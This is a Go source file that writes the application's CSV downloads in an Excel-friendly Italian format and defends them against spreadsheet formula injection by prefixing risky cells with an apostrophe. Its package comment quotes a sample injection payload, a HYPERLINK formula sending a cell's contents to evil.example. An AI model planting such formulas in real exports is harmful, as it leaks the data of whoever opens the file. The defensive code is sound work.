// Package csvfile writes every CSV file Ambiti offers for download, so that they all share
// one format and one defence. The format is what Excel in an Italian locale opens correctly
// with a double click: UTF-8 with a byte-order mark, ';' between fields, CRLF line ends and
// numbers with a decimal comma.
//
// The defence is against CSV (formula) injection: a spreadsheet runs a cell that starts with
// '=', '+', '-' or '@' as a formula, so a plan titled =HYPERLINK("http://evil.example/?d="&B2)
// typed in one district would run on the desk of whoever opens the export, a regional
// officer included. Every text cell is therefore neutralised here, in the only place CSV is
// written, rather than by each export remembering to do it. Numbers are typed values
// (int, float64, Cents, Decimal) and are formatted here too, so that a negative amount stays
// a number while a text that merely looks like one ("-5%") is neutralised.
//
// The package has no dependency on feature packages (plan, region…): any of them may use it.
// Amounts are written by internal/money, as the pages write them.
package csvfile

import (
	"bufio"
	"encoding/csv"
	"fmt"
	"io"
	"strconv"
	"strings"
	"unicode/utf8"

	"github.com/ambiti/ambiti/internal/money"
)

// bom makes Excel read the file as UTF-8 instead of the system code page.
const bom = "\ufeff"

// Cents is an amount in euro cents, written with a thousands dot and two decimals: "1.234,56".
type Cents int64

// Decimal is a number written with Places decimals and a decimal comma: {34, 1} is "34,0".
type Decimal struct {
	Value  float64
	Places int
}

// Writer writes the records of one CSV file. Errors are sticky: once a write fails, every
// later call returns that error, so a caller may check only Flush.
type Writer struct {
	bw  *bufio.Writer
	cw  *csv.Writer
	err error
}

// NewWriter starts a file on w (the byte-order mark is written at once).
func NewWriter(w io.Writer) *Writer {
	bw := bufio.NewWriter(w)
	cw := csv.NewWriter(bw)
	cw.Comma = ';'
	cw.UseCRLF = true
	out := &Writer{bw: bw, cw: cw}
	if _, err := bw.WriteString(bom); err != nil {
		out.err = fmt.Errorf("csv: %w", err)
	}
	return out
}

// Write writes one record. Each cell is written by its type:
//
//	string         text, neutralised against formula injection (see Text)
//	int, int64     an integer
//	float64        a number with two decimals: "1234,50"
//	*float64       the same, or an empty cell for nil
//	Cents          an amount: "1.234,56"
//	Decimal        a number with the given decimals
//	nil            an empty cell
//
// Any other type is a programming error and is refused, rather than printed unneutralised.
func (w *Writer) Write(cells ...any) error {
	if w.err != nil {
		return w.err
	}
	rec := make([]string, len(cells))
	for i, c := range cells {
		s, err := cell(c)
		if err != nil {
			w.err = err
			return err
		}
		rec[i] = s
	}
	if err := w.cw.Write(rec); err != nil {
		w.err = fmt.Errorf("csv: %w", err)
	}
	return w.err
}

// WriteStrings writes a record of texts, such as a header row.
func (w *Writer) WriteStrings(texts []string) error {
	cells := make([]any, len(texts))
	for i, t := range texts {
		cells[i] = t
	}
	return w.Write(cells...)
}

// Flush writes out whatever is buffered and reports the first error of the whole file.
func (w *Writer) Flush() error {
	if w.err != nil {
		return w.err
	}
	w.cw.Flush()
	if err := w.cw.Error(); err != nil {
		w.err = fmt.Errorf("csv: %w", err)
		return w.err
	}
	if err := w.bw.Flush(); err != nil {
		w.err = fmt.Errorf("csv: %w", err)
	}
	return w.err
}

func cell(v any) (string, error) {
	switch x := v.(type) {
	case nil:
		return "", nil
	case string:
		return Text(x), nil
	case int:
		return strconv.Itoa(x), nil
	case int64:
		return strconv.FormatInt(x, 10), nil
	case float64:
		return decimal(x, 2), nil
	case *float64:
		if x == nil {
			return "", nil
		}
		return decimal(*x, 2), nil
	case Cents:
		return money.Italian.Cents(int64(x)), nil
	case Decimal:
		return decimal(x.Value, x.Places), nil
	}
	return "", fmt.Errorf("csv: cell of unsupported type %T", v)
}

// formulaStarts are the first characters that make a spreadsheet read a cell as a formula or
// a command: the OWASP list (= + - @ TAB CR), NUL (ASVS 1.2.10), and the full-width forms of
// = + - @, which some spreadsheets in East-Asian locales fold to the ASCII ones.
const formulaStarts = "=+-@\t\r\x00＝＋－＠"

// Text returns s as a spreadsheet will show it and never run it: when it starts with one of
// formulaStarts it is prefixed with an apostrophe, as OWASP recommends.
func Text(s string) string {
	r, _ := utf8.DecodeRuneInString(s)
	if s != "" && strings.ContainsRune(formulaStarts, r) {
		return "'" + s
	}
	return s
}

func decimal(v float64, places int) string {
	return strings.Replace(strconv.FormatFloat(v, 'f', places, 64), ".", ",", 1)
}
